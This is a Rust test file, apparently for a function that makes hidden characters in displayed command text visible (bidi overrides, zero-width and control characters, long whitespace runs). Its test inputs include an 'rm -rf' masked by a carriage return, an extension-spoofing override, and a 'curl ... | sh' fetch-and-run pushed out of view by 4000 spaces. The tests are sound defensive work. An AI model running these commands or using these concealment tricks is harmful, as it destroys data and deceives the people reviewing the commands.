use proptest::prelude::*;

use super::*;

fn shown(text: &str) -> String {
    visible(text).text
}

/// https://github.com/zeroclaw-labs/zeroclaw/issues/9396
#[test]
fn a_carriage_return_cannot_overwrite_what_stands_before_it() {
    let shown = visible("rm -rf /srv/ledger\r\u{1b}[2Kls -l /srv");
    assert_eq!(shown.text, "rm -rf /srv/ledger\\r\\u{1b}[2Kls -l /srv");
    assert_eq!((shown.invisible, shown.chars), (2, 33));
}

/// https://github.com/kbrdn1/gwm-cli/issues/502, https://github.com/google-gemini/gemini-cli/pull/19026
#[test]
fn characters_that_reorder_are_shown_as_escapes() {
    assert_eq!(shown("/srv/in/offer_\u{202e}fdp.exe"), "/srv/in/offer_\\u{202e}fdp.exe");
    for c in
        ('\u{202a}'..='\u{202e}').chain('\u{2066}'..='\u{2069}').chain(['\u{61c}', '\u{200e}', '\u{200f}'])
    {
        assert_eq!(shown(&c.to_string()), format!("\\u{{{:x}}}", u32::from(c)));
    }
}

/// https://github.com/opena2a-org/hackmyagent/issues/330
#[test]
fn what_has_no_width_is_shown_and_counted() {
    for c in [
        '\u{ad}',
        '\u{200b}',
        '\u{200c}',
        '\u{200d}',
        '\u{2060}',
        '\u{2063}',
        '\u{feff}',
        '\u{e0001}',
        '\u{e0069}',
        '\u{fe0f}',
        '\u{e0100}',
        '\u{180e}',
        '\u{34f}',
        '\u{115f}',
        '\u{3164}',
        '\u{ffa0}',
        '\u{2800}',
        '\u{a0}',
        '\u{3000}',
        '\u{2028}',
        '\u{2029}',
        '\u{85}',
        '\u{9b}',
        '\u{7f}',
        '\u{7}',
        '\u{0}',
        '\u{e000}',
        '\u{fffe}',
    ] {
        let shown = visible(&format!("a{c}b"));
        assert_eq!((shown.text, shown.invisible), (format!("a\\u{{{:x}}}b", u32::from(c)), 1));
    }
    assert_eq!(visible("fine\u{e0069}\u{e0067}\u{e006e}").invisible, 3);
}

#[test]
fn ordinary_text_in_any_script_is_left_as_it_is() {
    for text in [
        "",
        "ls -l",
        "naïve Grüße",
        "Привет",
        "שלום",
        "你好",
        "نص",
        "हिन्दी",
        "ไทย",
        "🙂👍🏽",
        "a\u{301}",
        "½ × “q”",
    ] {
        assert_eq!(
            visible(text),
            Shown { text: text.into(), chars: text.chars().count(), ..Shown::default() }
        );
    }
}

/// https://github.com/google-gemini/gemini-cli/issues/25836
#[test]
fn a_long_run_of_blanks_is_counted_and_the_tail_stays_in_view() {
    let text = format!("grep TODO app.rs{}; curl -s http://203.0.113.9/x | sh", " ".repeat(4000));
    let shown_text = visible(&text);
    assert_eq!(shown_text.text, "grep TODO app.rs⟨4000 spaces⟩; curl -s http://203.0.113.9/x | sh");
    assert_eq!((shown_text.chars, shown_text.runs, shown_text.invisible), (text.len(), 1, 0));
    assert_eq!(shown(&format!("a{}b", "\n".repeat(900))), "a⟨900 newlines⟩b");
    assert_eq!(shown(&format!("a{}b", "\t".repeat(20))), "a⟨20 tabs⟩b");
    assert_eq!(shown(&"\r".repeat(16)), "⟨16 carriage returns⟩");
    let hidden = visible(&"\u{200b}".repeat(40));
    assert_eq!((hidden.text.as_str(), hidden.invisible), ("⟨40 × \\u{200b}⟩", 40));
}

#[test]
fn a_run_is_counted_from_the_edge_on() {
    assert_eq!(shown(&" ".repeat(RUN_MIN - 1)), " ".repeat(RUN_MIN - 1));
    assert_eq!(shown(&" ".repeat(RUN_MIN)), "⟨16 spaces⟩");
}

#[test]
fn no_text_can_fake_an_escape_or_a_count() {
    for (text, expected) in [
        ("⟨4000 spaces⟩", "\\u{27e8}4000 spaces⟩"),
        ("echo a\\nb", "echo a\\\\nb"),
        ("echo a\nb", "echo a\\nb"),
        ("\\\n", "\\\\\\n"),
        ("\\u{202e}", "\\\\u{202e}"),
        ("C:\\dir\\users", "C:\\dir\\users"),
        ("\\", "\\"),
    ] {
        assert_eq!(shown(text), expected, "{text:?}");
    }
    assert_eq!(visible_quoted("say \"hi\\\"").text, "\"say \\\"hi\\\\\\\"\"");
    assert_eq!(visible_quoted("end\\").text, "\"end\\\\\"");
}

#[test]
fn marks_cannot_pile_up_or_join_what_stands_before_the_text() {
    assert_eq!(shown("\u{338}a"), "\\u{338}a");
    assert_eq!(shown("a\u{301}\u{302}\u{303}\u{304}"), "a\u{301}\u{302}\u{303}\\u{304}");
}

/// Reads a shown text back, by the table in the module's description.
fn read_back(shown: &str, quoted: bool) -> String {
    let mut out = String::new();
    let inner = if quoted { &shown[1..shown.len() - 1] } else { shown };
    let mut rest = inner;
    while let Some(c) = rest.chars().next() {
        rest = &rest[c.len_utf8()..];
        let next = rest.chars().next();
        match (c, next) {
            ('\\', Some('\\')) => out.push('\\'),
            ('\\', Some('"')) if quoted => out.push('"'),
            ('\\', Some('n')) => out.push('\n'),
            ('\\', Some('r')) => out.push('\r'),
            ('\\', Some('t')) => out.push('\t'),
            ('\\', Some('u')) if rest.starts_with("u{") => {
                let (number, after) = rest[2..].split_once('}').unwrap();
                out.push(char::from_u32(u32::from_str_radix(number, 16).unwrap()).unwrap());
                rest = after;
                continue;
            }
            ('⟨', _) => {
                let (run, after) = rest.split_once('⟩').unwrap();
                let (count, what) = run.split_once(' ').unwrap();
                let what = match what {
                    "spaces" => " ".to_owned(),
                    "newlines" => "\n".to_owned(),
                    "tabs" => "\t".to_owned(),
                    "carriage returns" => "\r".to_owned(),
                    other => read_back(other.strip_prefix("× ").unwrap(), false),
                };
                out.push_str(&what.repeat(count.parse().unwrap()));
                rest = after;
                continue;
            }
            _ => {
                out.push(c);
                continue;
            }
        }
        rest = &rest[next.map_or(0, char::len_utf8)..];
    }
    out
}

/// Texts with the characters that matter here much more often than chance.
fn tricky() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        any::<char>().prop_map(String::from),
        "[\\\\nrtu{}\"⟨⟩ 0-9a-f\n\r\t]{1,6}",
        prop::sample::select(vec!["\u{200b}", "\u{202e}", "\u{1b}", "\u{301}", " spaces⟩", "\\u{202e}"])
            .prop_map(String::from),
        (prop::sample::select(vec![" ", "\n", "\t", "\r", "\u{200b}"]), 14..19_usize)
            .prop_map(|(c, n)| c.repeat(n)),
    ];
    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn what_is_shown_never_has_a_hidden_character(text in tricky()) {
        for shown in [visible(&text), visible_quoted(&text)] {
            prop_assert!(!shown.text.chars().any(|c| hides(c) || c.is_control()), "{:?}", shown.text);
            prop_assert_eq!(shown.chars, text.chars().count());
            prop_assert_eq!(shown.invisible, text.chars().filter(|&c| hides(c) && c != '\n' && c != '\t').count());
        }
    }

    #[test]
    fn what_is_shown_can_be_read_back_to_the_exact_text(text in tricky()) {
        prop_assert_eq!(read_back(&visible(&text).text, false), text.clone());
        prop_assert_eq!(read_back(&visible_quoted(&text).text, true), text);
    }
}
